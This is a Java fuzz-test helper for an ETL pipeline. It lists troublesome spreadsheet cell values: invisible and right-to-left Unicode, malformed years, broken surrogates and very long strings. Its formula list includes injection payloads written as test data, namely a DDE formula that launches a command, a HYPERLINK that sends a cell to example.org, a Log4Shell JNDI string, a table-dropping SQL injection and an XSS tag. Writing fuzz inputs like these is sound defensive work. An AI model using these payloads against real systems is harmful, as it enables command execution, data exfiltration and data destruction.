package it.sprint.etl.fuzz;

import java.util.List;
import java.util.Random;

/** Cells that spreadsheets, people and attackers write. */
final class NastyCell {

  /** A record may have a mebibyte. */
  private static final int HUGE = 1 << 20;

  static final List<String> FORMULAS =
      List.of(
          "=cmd|' /C calc'!A0",
          "@SUM(1+1)",
          "@hint.decimal",
          "+1+1",
          "-2+3",
          "=HYPERLINK(\"http://example.org?x=\"&A1)",
          "=\"001\"",
          "=\"",
          "\t=1+1",
          "{1}{2}{0}",
          "%s%n%d",
          "${jndi:ldap://example.org/a}",
          "'; drop table ops.delivery; --",
          "<script>alert(1)</script>",
          "\\N",
          "\\.");

  static final List<String> INVISIBLE =
      List.of("\u200B", "\u00AD", "\u2060", "\uFEFF", "\u00A0", "\u2028", "\u0085", "\u200D");

  static final List<String> RIGHT_TO_LEFT =
      List.of("\u202E", "\u200F", "\u2067", "\u061C", "\u0645\u062D\u0645\u062F", "\u202B");

  static final List<String> YEARS =
      List.of(
          "0000",
          "0001",
          "0099",
          "1202",
          "1582",
          "2923",
          "9999",
          "20223",
          "+999999999",
          "+10000",
          "-0044",
          "-999999999",
          "23",
          "\u0662\u0660\u0662\u0663");

  /** Letters outside of the first plane, half of such a letter, letters with many marks. */
  static final List<String> LETTERS =
      List.of(
          "\uD83A\uDD00\uD83A\uDD22",
          "\uD83D\uDE00",
          "\uD800",
          "\uDC00",
          "e\u0301\u0301\u0301\u0301",
          "\u0130\u0131",
          "\uFB03",
          "Ã¨",
          "\uFFFF",
          "\u0001\u001B[31m");

  private NastyCell() {}

  static String one(List<String> cells, Random random) {
    return cells.get(random.nextInt(cells.size()));
  }

  /** Up to some mebibytes of the same, which a regular expression or a buffer may not survive. */
  static String huge(Random random) {
    String part =
        one(
            List.of("A", "1", ".123", "1,", " ", "\"\"", "01/01/2020 ", "à", "A1", "(", "\t"),
            random);
    int length = 1 << (8 + random.nextInt(13));
    return "1" + part.repeat(Math.min(length, 2 * HUGE) / part.length());
  }
}
